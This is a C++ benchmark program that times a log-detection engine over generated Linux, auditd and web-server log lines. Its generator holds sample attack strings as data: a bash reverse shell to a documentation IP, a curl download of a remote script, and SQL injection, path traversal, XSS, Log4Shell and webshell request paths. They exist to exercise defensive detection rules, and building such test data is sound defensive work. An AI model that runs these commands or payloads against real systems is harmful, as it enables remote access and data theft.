// Detection throughput: events per second through decode + match (+ the stateful Detector) on one
// core, over a generated mix of Linux and web-server log lines with a few percent attacks, with
// every rule under the given directories (the pack plus imported Sigma rules). Not a test; built
// with -DSOC_BENCH=ON.
//
//   detect_bench --rules DIR [--rules DIR ...] [--lines N] [--rounds R] [--file PATH]
//
// Ends with name=value lines: rules_compile_cold_s and rules_load_warm_s (loading the rules and
// building the engine with an empty, then a warm, database cache: wall seconds), decode_eps,
// match_only_eps, detect_eps_per_core (decode + match + detector), hyperscan_raw_lines_per_s (every
// pattern of every rule in one Hyperscan database, one block scan of each raw line: the ceiling a
// single-field engine could reach) and ratio_vs_raw. Each figure is the best of R rounds, timed in
// the thread's CPU time.
#include <hs/hs.h>

#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <deque>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>
#include <random>
#include <string>
#include <vector>

#include "collector/decode/decoder.h"
#include "collector/detect/database_cache.h"
#include "collector/detect/detect_chain.h"
#include "collector/detect/engine.h"
#include "collector/detect/rule.h"

namespace {

class Generator {
 public:
  explicit Generator(uint32_t seed) : rng_(seed) {}

  // Line `n` of the mix happens kLinesPerSecond lines a second after 2026-11-23 00:00 in Vietnam;
  // its envelope's read time (read_time()) is the same instant.
  static constexpr unsigned kLinesPerSecond = 4;
  static std::string read_time(size_t n) {
    const size_t s = n / kLinesPerSecond;
    char buf[96];
    std::snprintf(buf, sizeof buf, "2026-%s:%02zu:%02zu.%03zu+07:00", day_hour(s).c_str(),
                  s / 60 % 60, s % 60, n % kLinesPerSecond * (1000 / kLinesPerSecond));
    return buf;
  }

  std::pair<std::string, std::string> next() {  // (src, line)
    at_line(line_++);
    // A whole audit event is 7 lines: ~14 % of the lines.
    if (in_audit_event() || u(100) < 2) return {kAuditLog, audit_line()};
    const unsigned r = u(98);
    if (r < 32) return {"file:/var/log/nginx/access.log", access()};
    if (r < 53) return {"file:/var/log/auth.log", sshd()};
    if (r < 59) return {"file:/var/log/auth.log", sudo()};
    if (r < 77) return {"file:/var/log/ufw.log", firewall()};
    if (r < 84) return {"file:/var/log/app/app.json", json()};
    return {"file:/var/log/syslog", other()};
  }

  static constexpr const char* kAuditLog = "file:/var/log/audit/audit.log";

  // The time of the line being made is that of line `n` of the mix.
  void at_line(size_t n) { now_ = n / kLinesPerSecond; }
  // Whether the current audit event has records left.
  bool in_audit_event() const { return !pending_.empty(); }
  // Its next record, or the first record of a new event.
  std::string audit_line() {
    if (pending_.empty()) {
      for (auto& line : audit_event()) pending_.push_back(std::move(line));
    }
    std::string line = std::move(pending_.front());
    pending_.pop_front();
    return line;
  }

  // One execve as auditd writes it: SYSCALL, EXECVE, CWD, two PATH, PROCTITLE and EOE records
  // sharing a serial. Mostly routine commands, a few from an intrusion.
  std::vector<std::string> audit_event() {
    struct Exec {
      const char* exe;
      std::vector<std::string> argv;
    };
    static const Exec kExecs[] = {
        {"/usr/bin/ls", {"ls", "-la", "/var/www"}},
        {"/usr/bin/systemctl", {"systemctl", "status", "nginx"}},
        {"/usr/bin/cat", {"cat", "/etc/hostname"}},
        {"/usr/bin/grep", {"grep", "-r", "ERROR", "/var/log/app"}},
        {"/usr/bin/python3", {"python3", "/opt/app/manage.py", "clearsessions"}},
        {"/usr/bin/tar", {"tar", "czf", "/backup/www.tgz", "/var/www"}},
        {"/usr/bin/find", {"find", "/tmp", "-mtime", "+7", "-delete"}},
        {"/usr/bin/ps", {"ps", "aux"}},
        {"/usr/bin/df", {"df", "-h"}},
        {"/usr/bin/git", {"git", "pull", "--ff-only"}},
        {"/usr/bin/base64", {"base64", "-d", "/tmp/x"}},
        {"/usr/bin/chmod", {"chmod", "+x", "/tmp/run.sh"}},
        {"/usr/bin/curl", {"curl", "-o", "/tmp/a.sh", "http://198.51.100.9/a.sh"}},
        {"/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"}},
    };
    const Exec& x = kExecs[u(100) < 95 ? u(10) : 10 + u(4)];
    // 1795366800 is 2026-11-23 00:00 in Vietnam.
    const std::string id = "msg=audit(" + std::to_string(1795366800 + now_) + "." +
                           std::to_string(100 + u(900)) + ":" + std::to_string(++serial_) + "): ";
    std::string execve = "type=EXECVE " + id + "argc=" + std::to_string(x.argv.size());
    std::string title;
    for (size_t i = 0; i < x.argv.size(); ++i) {
      const std::string& a = x.argv[i];
      const bool plain = a.find_first_of(" \"'") == std::string::npos;
      execve += " a" + std::to_string(i) + "=" + (plain ? "\"" + a + "\"" : hex(a));
      title += (i ? std::string(1, '\0') : std::string()) + a;
    }
    const std::string pid = std::to_string(2000 + u(30000));
    const std::string comm = x.argv[0];
    return {"type=SYSCALL " + id +
                "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=8 "
                "items=2 ppid=1873 pid=" +
                pid +
                " auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 "
                "ses=3 comm=\"" +
                comm + "\" exe=\"" + x.exe + "\" subj=unconfined key=\"exec\"",
            execve,
            "type=CWD " + id + "cwd=\"/root\"",
            "type=PATH " + id + "item=0 name=\"" + x.exe +
                "\" inode=9631367 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PATH " + id +
                "item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=11477632 dev=fd:00 "
                "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
                "cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PROCTITLE " + id + "proctitle=" + hex(title),
            "type=EOE " + id};
  }

 private:
  std::deque<std::string> pending_;
  unsigned long serial_ = 41000;

  static std::string hex(const std::string& s) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out;
    for (unsigned char c : s) {
      out += kHex[c >> 4];
      out += kHex[c & 0xF];
    }
    return out;
  }

  std::mt19937 rng_;
  size_t line_ = 0;  // lines made so far
  size_t now_ = 0;   // seconds after 2026-11-23 00:00 +07:00 of the line being made

  unsigned u(unsigned n) { return static_cast<unsigned>(rng_() % n); }
  template <size_t N>
  const char* pick(const char* const (&items)[N]) {
    return items[rng_() % N];
  }
  std::string ip() {
    return std::to_string(u(223) + 1) + "." + std::to_string(u(256)) + "." +
           std::to_string(u(256)) + "." + std::to_string(u(254) + 1);
  }
  // "MM-DDTHH" of second `s` after 2026-11-23 00:00 (November, then December).
  static std::string day_hour(size_t s) {
    const size_t day = 23 + s / 86400;
    char buf[64];
    std::snprintf(buf, sizeof buf, "%s-%02zuT%02zu", day > 30 ? "12" : "11",
                  day > 30 ? day - 30 : day, s / 3600 % 24);
    return buf;
  }
  std::string stamp() {  // RFC 3164
    const size_t day = 23 + now_ / 86400;
    char buf[96];
    std::snprintf(buf, sizeof buf, "%s %2zu %02zu:%02zu:%02zu", day > 30 ? "Dec" : "Nov",
                  day > 30 ? day - 30 : day, now_ / 3600 % 24, now_ / 60 % 60, now_ % 60);
    return buf;
  }
  std::string header(const char* program) {
    return stamp() + " web0" + std::to_string(u(9)) + " " + program + "[" +
           std::to_string(1000 + u(30000)) + "]: ";
  }

  std::string access() {
    static const char* const kPaths[] = {"/",
                                         "/index.html",
                                         "/static/app.js",
                                         "/api/v1/items?page=2",
                                         "/login",
                                         "/images/a.png",
                                         "/search?q=ho+chi+minh",
                                         "/wp-login.php",
                                         "/favicon.ico",
                                         "/news/2026/11/23/x"};
    static const char* const kAttacks[] = {
        "/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users--",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/shell.php?cmd=id",
        "/${jndi:ldap://x.example/a}",
        "/../../etc/shadow"};
    static const char* const kAgents[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", "curl/8.5.0",
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0"};
    const bool attack = u(100) < 5;
    const char* path = attack ? pick(kAttacks) : pick(kPaths);
    const char* agent = attack ? pick(kAgents) : kAgents[u(3)];
    static const unsigned kStatus[] = {200, 200, 200, 304, 404, 500, 301};
    const size_t day = 23 + now_ / 86400;
    char when[96];
    std::snprintf(when, sizeof when, "[%02zu/%s/2026:%02zu:%02zu:%02zu +0700]",
                  day > 30 ? day - 30 : day, day > 30 ? "Dec" : "Nov", now_ / 3600 % 24,
                  now_ / 60 % 60, now_ % 60);
    return ip() + " - - " + when + " \"" + (u(10) < 8 ? "GET " : "POST ") + path + " HTTP/1.1\" " +
           std::to_string(kStatus[u(7)]) + " " + std::to_string(u(50000)) + " \"-\" \"" + agent +
           "\"";
  }
  std::string sshd() {
    static const char* const kUsers[] = {"root", "admin", "oracle", "ubuntu", "alice", "test"};
    const std::string src = "203.0.113." + std::to_string(u(20));
    switch (u(5)) {
      case 0:
        return header("sshd") + "Failed password for " + pick(kUsers) + " from " + src + " port " +
               std::to_string(40000 + u(20000)) + " ssh2";
      case 1:
        return header("sshd") + "Invalid user " + pick(kUsers) + " from " + src + " port 4000";
      case 2:
        return header("sshd") + "Accepted publickey for " + pick(kUsers) + " from " + ip() +
               " port 50000 ssh2: ED25519 SHA256:abcdef";
      case 3:
        return header("sshd") + "Disconnected from authenticating user root " + src +
               " port 50000 [preauth]";
      default:
        return header("sshd") +
               "pam_unix(sshd:session): session opened for user alice(uid=1000) "
               "by (uid=0)";
    }
  }
  std::string sudo() {
    static const char* const kCmds[] = {"/usr/bin/apt update", "/bin/bash",
                                        "/usr/bin/systemctl "
                                        "restart nginx",
                                        "/usr/bin/cat /etc/shadow"};
    return header("sudo") +
           "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=" + pick(kCmds);
  }
  std::string firewall() {
    return header("kernel") + "[UFW BLOCK] IN=eth0 OUT= MAC=00:00:00:00:00:00 SRC=" + ip() +
           " DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=" +
           std::to_string(1024 + u(60000)) + " DPT=" + std::to_string(u(3) ? 22 : 3389) +
           " WINDOW=64240 RES=0x00 SYN URGP=0";
  }
  std::string json() {
    return "{\"@timestamp\":\"" + read_time(line_ - 1) +
           "\",\"level\":\"info\",\"message\":\"order " + std::to_string(line_) +
           " created\",\"user\":\"u" + std::to_string(u(100)) + "\"}";
  }
  std::string other() {
    static const char* const kMsgs[] = {"CRON[99]: (root) CMD (run-parts /etc/cron.hourly)",
                                        "systemd[1]: Started Daily apt download activities.",
                                        "kernel: [12345.678] eth0: link up",
                                        "dhclient[12]: bound to 10.0.0.5 -- renewal in 1800"};
    return stamp() + " web01 " + pick(kMsgs);
  }
};

// Real public logs from ../shared/data (not in the repository; see its README), cycled in the
// proportions of a provincial web and application server: its Apache access log, sshd and the
// rest of syslog, the Apache error log, and audited execs (generated: the folder has no audit log).
class SharedMix {
 public:
  // Empty when a file is missing.
  static std::optional<SharedMix> load(const std::string& dir) {
    SharedMix m;
    const auto read = [&](const std::string& rel, const char* src, unsigned share, int skip_words) {
      std::ifstream in(dir + "/" + rel, std::ios::binary);
      Source so{src, {}, share, 0};
      std::string line;
      while (std::getline(in, line)) {
        size_t at = 0;  // Thunderbird lines start with a label, epoch, date and node
        for (int w = 0; w < skip_words && at != std::string::npos; ++w) {
          at = line.find(' ', at);
          if (at != std::string::npos) ++at;
        }
        if (at == std::string::npos || line.size() <= at) continue;
        so.lines.push_back(line.substr(at));
      }
      if (so.lines.empty()) return false;
      m.sources_.push_back(std::move(so));
      return true;
    };
    const bool ok =
        read("elastic-apache-access/apache_logs", "file:/var/log/apache2/access.log", 38, 0) &&
        read("loghub/OpenSSH/OpenSSH_2k.log", "file:/var/log/auth.log", 20, 0) &&
        read("loghub/Linux/Linux_2k.log", "file:/var/log/messages", 10, 0) &&
        read("loghub/Thunderbird/Thunderbird_2k.log", "file:/var/log/messages", 10, 4) &&
        read("loghub/Apache/Apache_2k.log", "file:/var/log/apache2/error.log", 4, 0);
    if (!ok) return std::nullopt;
    return m;
  }

  std::pair<std::string, std::string> next() {  // (src, line)
    audit_.at_line(line_++);
    if (audit_.in_audit_event()) return {Generator::kAuditLog, audit_.audit_line()};
    // 3 draws in 85 are an audit event of 7 lines: about 20 % of the lines.
    unsigned r = static_cast<unsigned>(rng_() % 85);
    for (auto& so : sources_) {
      if (r < so.share) return {so.src, so.lines[so.next++ % so.lines.size()]};
      r -= so.share;
    }
    return {Generator::kAuditLog, audit_.audit_line()};
  }

 private:
  struct Source {
    const char* src;
    std::vector<std::string> lines;
    unsigned share;  // draws in 85
    size_t next;
  };
  std::vector<Source> sources_;
  std::mt19937 rng_{42};
  Generator audit_{43};  // its audit events, on the mix's clock
  size_t line_ = 0;
};

struct Options {
  std::vector<std::string> rules;
  size_t lines = 200000;
  int rounds = 3;
  std::string file;
  std::string shared;         // build the mix from this ../shared/data folder
  std::string dump_lines;     // write the input lines here (for grep over the same lines)
  std::string dump_patterns;  // write every pattern as a POSIX ERE here (for grep -E -f)
  bool detect_only = false;   // only the decode + match + detector loop (for profiling it)
};

// A literal as an ERE that matches it exactly.
std::string ere_literal(const std::string& s) {
  std::string out;
  for (char c : s) {
    if (std::string_view("\\.^$|?*+()[]{}").find(c) != std::string_view::npos) out += '\\';
    out += c;
  }
  return out;
}

// This thread's CPU time: a rate per core that other processes on the machine do not skew.
double cpu_seconds() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

double best_rate(int rounds, size_t n, const auto& body) {
  double best = 0;
  for (int r = 0; r < rounds; ++r) {
    const double t0 = cpu_seconds();
    body();
    best = std::max(best, static_cast<double>(n) / (cpu_seconds() - t0));
  }
  return best;
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    const auto next = [&]() -> std::string {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "detect_bench: %s needs a value\n", a.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (a == "--rules") {
      o.rules.push_back(next());
    } else if (a == "--lines") {
      o.lines = std::stoul(next());
    } else if (a == "--detect-only") {
      o.detect_only = true;
    } else if (a == "--rounds") {
      o.rounds = std::stoi(next());
    } else if (a == "--shared") {
      o.shared = next();
    } else if (a == "--file") {
      o.file = next();
    } else if (a == "--dump-lines") {
      o.dump_lines = next();
    } else if (a == "--dump-patterns") {
      o.dump_patterns = next();
    } else {
      std::fprintf(stderr,
                   "usage: detect_bench --rules DIR [--rules DIR ...] [--lines N] [--rounds R] "
                   "[--file PATH | --shared DATA_DIR] [--dump-lines FILE] [--dump-patterns FILE] "
                   "[--detect-only]\n");
      return 2;
    }
  }
  if (o.rules.empty()) {
    std::fprintf(stderr, "detect_bench: give at least one --rules DIR\n");
    return 2;
  }

  // Loading and building as a collector start does: with an empty database cache (every
  // database compiled, then stored), then again with the cache warm. The warm engine is measured.
  const std::string cache_dir =
      (std::filesystem::temp_directory_path() / ("detect_bench_cache." + std::to_string(getpid())))
          .string();
  std::filesystem::remove_all(cache_dir);
  auto opened = soc::DatabaseCache::open(cache_dir);
  if (!opened) {
    std::fprintf(stderr, "detect_bench: %s\n", opened.error().c_str());
    return 1;
  }
  std::shared_ptr<soc::DatabaseCache> cache = std::move(opened).value();
  const auto load_pack = [&](double* seconds) -> soc::Result<std::unique_ptr<soc::Engine>> {
    const auto start = std::chrono::steady_clock::now();
    std::vector<soc::Rule> pack;
    for (const auto& dir : o.rules) {
      auto r = soc::load_rules(dir);
      if (!r) return soc::Error{r.error()};
      for (auto& x : *r) pack.push_back(std::move(x));
    }
    auto built = soc::Engine::build(std::move(pack), cache);
    *seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    return built;
  };
  double compile_cold_s = 0, load_warm_s = 0;
  auto engine = load_pack(&compile_cold_s);
  if (engine) engine = load_pack(&load_warm_s);
  std::filesystem::remove_all(cache_dir);
  if (!engine) {
    std::fprintf(stderr, "detect_bench: %s\n", engine.error().c_str());
    return 1;
  }
  const std::vector<soc::Rule>& rules = (*engine)->rules();
  // The raw ceiling: the same patterns in one database, each line scanned once.
  std::vector<std::string> exprs;
  std::vector<unsigned> flags, ids;
  std::string eres;  // the same patterns for grep -E, one per line
  for (const auto& r : rules) {
    for (const auto& m : r.clauses) {
      if (m.kind == soc::MatchKind::kExists) continue;
      for (size_t i = 0; i < m.values.size(); ++i) {
        const std::string& v = m.values[i];
        switch (m.kind) {
          case soc::MatchKind::kRegex:
            eres += v;
            break;
          case soc::MatchKind::kEquals:
            eres += "^" + ere_literal(v) + "$";
            break;
          case soc::MatchKind::kStartsWith:
            eres += "^" + ere_literal(v);
            break;
          case soc::MatchKind::kEndsWith:
            eres += ere_literal(v) + "$";
            break;
          default:
            eres += ere_literal(v);
        }
        eres += '\n';
        exprs.push_back(soc::hs_expression(m, i));
        flags.push_back(soc::hs_flags(m));
        ids.push_back(static_cast<unsigned>(ids.size()));
      }
    }
  }
  std::vector<const char*> cexprs;
  for (const auto& e : exprs) cexprs.push_back(e.c_str());
  hs_database_t* raw_db = nullptr;
  hs_compile_error_t* cerr = nullptr;
  if (hs_compile_multi(cexprs.data(), flags.data(), ids.data(), static_cast<unsigned>(ids.size()),
                       HS_MODE_BLOCK, nullptr, &raw_db, &cerr) != HS_SUCCESS) {
    std::fprintf(stderr, "detect_bench: raw database: %s\n", cerr ? cerr->message : "?");
    hs_free_compile_error(cerr);
    return 1;
  }
  std::unique_ptr<hs_database_t, decltype(&hs_free_database)> raw_guard(raw_db, hs_free_database);
  hs_scratch_t* scratch = nullptr;
  hs_alloc_scratch(raw_db, &scratch);
  std::unique_ptr<hs_scratch_t, decltype(&hs_free_scratch)> scratch_guard(scratch, hs_free_scratch);

  // The input: generated, or a file's lines.
  std::vector<soc::Envelope> envs;
  if (!o.file.empty()) {
    std::ifstream in(o.file, std::ios::binary);
    std::string line;
    while (envs.size() < o.lines && std::getline(in, line)) {
      soc::Envelope e;
      e.src = "file:" + o.file;
      e.msg = line;
      envs.push_back(std::move(e));
    }
  } else if (!o.shared.empty()) {
    auto mix = SharedMix::load(o.shared);
    if (!mix) {
      std::fprintf(stderr, "detect_bench: %s lacks the expected logs\n", o.shared.c_str());
      return 1;
    }
    for (size_t i = 0; i < o.lines; ++i) {
      auto [src, line] = mix->next();
      soc::Envelope e;
      e.src = std::move(src);
      e.msg = std::move(line);
      envs.push_back(std::move(e));
    }
  } else {
    Generator g(42);
    for (size_t i = 0; i < o.lines; ++i) {
      auto [src, line] = g.next();
      soc::Envelope e;
      e.src = std::move(src);
      e.msg = std::move(line);
      envs.push_back(std::move(e));
    }
  }
  // Every line has its own read time (the decoder parses each), moving with the generated lines'
  // own clock.
  for (size_t i = 0; i < envs.size(); ++i) {
    envs[i].agent = "bench-agent";
    envs[i].host = "web01";
    envs[i].org = "BENCH";
    envs[i].seq = i + 1;
    envs[i].ts = Generator::read_time(i);
  }
  const size_t n = envs.size();
  if (!o.dump_patterns.empty()) std::ofstream(o.dump_patterns, std::ios::binary) << eres;
  if (!o.dump_lines.empty()) {
    std::ofstream out(o.dump_lines, std::ios::binary);
    for (const auto& e : envs) out << e.msg << '\n';
  }
  const soc::Decoder decoder;

  std::vector<soc::Event> decoded(n);
  const double decode_eps = best_rate(o.detect_only ? 0 : o.rounds, n, [&] {
    for (size_t i = 0; i < n; ++i) {
      decoded[i].env = envs[i];
      decoder.decode(decoded[i]);
    }
  });
  soc::Engine::Scratch es = (*engine)->make_scratch();
  size_t matches = 0;
  const double match_eps = best_rate(o.detect_only ? 0 : o.rounds, n, [&] {
    matches = 0;
    for (const auto& e : decoded) matches += (*engine)->match(e, es).size();
  });
  // The engine is shared with the chain of each round; `engine` keeps its reference.
  const std::shared_ptr<const soc::Engine> shared_engine(engine->get(), [](const soc::Engine*) {});
  size_t detections = 0;
  size_t groups = 0;  // threshold groups open at the end, and evicted by the cap on the way
  uint64_t evicted = 0;
  const double detect_eps = best_rate(o.rounds, n, [&] {
    soc::DetectChain chain(decoder, shared_engine);  // fresh state each round
    soc::Event e;
    detections = 0;
    const auto count = [&](const soc::Event&, const std::vector<soc::Detection>& raised) {
      detections += raised.size();
    };
    for (size_t i = 0; i < n; ++i) {
      e.env = envs[i];
      chain.push(e, count);
    }
    chain.flush(count);
    groups = chain.group_count();
    evicted = chain.evicted_groups();
  });
  size_t raw_hits = 0;
  const double raw_lps = best_rate(o.detect_only ? 0 : o.rounds, n, [&] {
    raw_hits = 0;
    for (const auto& env : envs) {
      hs_scan(
          raw_db, env.msg.data(), static_cast<unsigned>(env.msg.size()), 0, scratch,
          [](unsigned, unsigned long long, unsigned long long, unsigned, void* ctx) -> int {
            ++*static_cast<size_t*>(ctx);
            return 0;
          },
          &raw_hits);
    }
  });

  std::printf("rules=%zu databases=%zu patterns=%zu lines=%zu\n", (*engine)->rules().size(),
              (*engine)->database_count(), (*engine)->pattern_count(), n);
  std::printf("rule_matches=%zu detections=%zu threshold_groups=%zu evicted_groups=%llu\n", matches,
              detections, groups, static_cast<unsigned long long>(evicted));
  std::printf("rules_compile_cold_s=%.2f\n", compile_cold_s);
  std::printf("rules_load_warm_s=%.2f\n", load_warm_s);
  std::printf("decode_eps=%.0f\n", decode_eps);
  std::printf("match_only_eps=%.0f\n", match_eps);
  std::printf("detect_eps_per_core=%.0f\n", detect_eps);
  std::printf("hyperscan_raw_lines_per_s=%.0f\n", raw_lps);
  std::printf("ratio_vs_raw=%.3f\n", detect_eps / raw_lps);
  return 0;
}
